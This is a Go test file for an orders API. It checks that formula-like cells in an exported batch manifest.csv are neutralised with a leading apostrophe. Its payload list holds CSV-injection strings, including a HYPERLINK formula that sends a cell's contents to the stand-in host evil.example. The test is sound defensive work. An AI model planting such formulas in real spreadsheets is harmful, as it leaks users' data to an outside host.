package api

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"maps"
	"net/http"
	"slices"
	"strings"
	"testing"

	"orders/internal/registry"
)

// TestBatchManifestFormulas: cells of a batch's manifest.csv that a spreadsheet would run as
// formulas (titles and organizations come from the uploaded rows) start with an apostrophe,
// as OWASP recommends; the other cells are as they were.
func TestBatchManifestFormulas(t *testing.T) {
	env := newImportEnv(t, 0)
	payloads := []string{"=1+1", "+1", "-1", "@SUM(1)", "\t=2", "\r=3",
		`=HYPERLINK("http://evil.example/?d="&A1,"Нажмите")`}
	var rows []map[string]string
	for _, p := range payloads {
		rows = append(rows, map[string]string{"Организация": p, "Тема": p + " тема"})
	}
	rows = append(rows, map[string]string{"Организация": "МБОУ «СОШ №6»", "Тема": "Функциональная грамотность"})
	tmpl := `{"kind": "приказ", "title": "{Тема}", "clauses": [{"text": "Организовать площадку в {Организация}."}],
		"signatory": {"position": ["Начальник"], "name": "Н.В. Бабенко"}}`
	body, _ := json.Marshal(map[string]any{"template": json.RawMessage(tmpl), "rows": rows})
	code, _, out := env.do("clerk", "POST", "/api/v1/batches", "application/json", body)
	if code != http.StatusAccepted {
		t.Fatalf("batch: %d %s", code, out)
	}
	var acc struct{ ID string }
	if err := json.Unmarshal(out, &acc); err != nil {
		t.Fatal(err)
	}
	code, _, out = env.do("clerk", "GET", "/api/v1/batches/"+acc.ID+"/result.zip?partial=true", "", nil)
	if code != http.StatusOK {
		t.Fatalf("result.zip: %d %s", code, out)
	}
	zr, err := zip.NewReader(bytes.NewReader(out), int64(len(out)))
	if err != nil {
		t.Fatal(err)
	}
	var recs [][]string
	for _, f := range zr.File {
		if f.Name == "manifest.csv" {
			rc, _ := f.Open()
			m, _ := io.ReadAll(rc)
			cr := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(m, []byte("\xEF\xBB\xBF"))))
			cr.Comma = ';'
			if recs, err = cr.ReadAll(); err != nil {
				t.Fatal(err)
			}
		}
	}
	if len(recs) != len(rows)+1 {
		t.Fatalf("manifest: %q", recs)
	}
	checkZipEntries(t, out, nil)
	russian := slices.Collect(maps.Values(registry.StatusNames))
	for _, rec := range recs[1:] {
		// The status is a word of the pages («готов», «в очереди»), not the API's «rendered».
		if !slices.Contains(russian, rec[5]) {
			t.Errorf("row %s: status %q", rec[0], rec[5])
		}
		title, org := rec[3], rec[4]
		for what, cell := range map[string]string{"title": title, "organization": org} {
			if cell == "" {
				t.Errorf("%s empty in %q", what, rec)
				continue
			}
			danger := strings.ContainsAny(cell[:1], "=+-@\t\r")
			if danger {
				t.Errorf("%s %q of row %s would run as a formula", what, cell, rec[0])
			}
		}
		if strings.HasPrefix(org, "'") != strings.HasPrefix(title, "'") {
			t.Errorf("row %s: %q / %q", rec[0], title, org)
		}
	}
	if last := recs[len(recs)-1]; last[4] != "МБОУ «СОШ №6»" || last[3] != "Функциональная грамотность" {
		t.Errorf("a harmless row changed: %q", last)
	}
	if first := recs[1]; first[4] != "'=1+1" {
		t.Errorf("first row's organization %q, want %q", first[4], "'=1+1")
	}
}
